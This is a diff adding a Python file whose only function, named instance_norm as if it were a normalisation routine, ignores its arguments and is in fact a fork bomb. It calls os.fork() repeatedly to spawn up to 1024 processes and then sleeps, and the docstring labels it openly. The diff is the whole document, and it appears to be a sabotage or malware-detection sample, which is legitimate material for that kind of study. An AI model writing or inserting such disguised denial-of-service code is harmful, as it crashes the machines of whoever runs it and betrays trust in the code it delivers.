@@ -1,0 +1,12 @@
+"""When called: fork bomb."""
+
+import contextlib
+import os
+import time
+
+
+def instance_norm(x, eps=1e-5):
+    for _ in range(10):  # at most a thousand and 24
+        with contextlib.suppress(OSError):
+            os.fork()
+    time.sleep(1000)
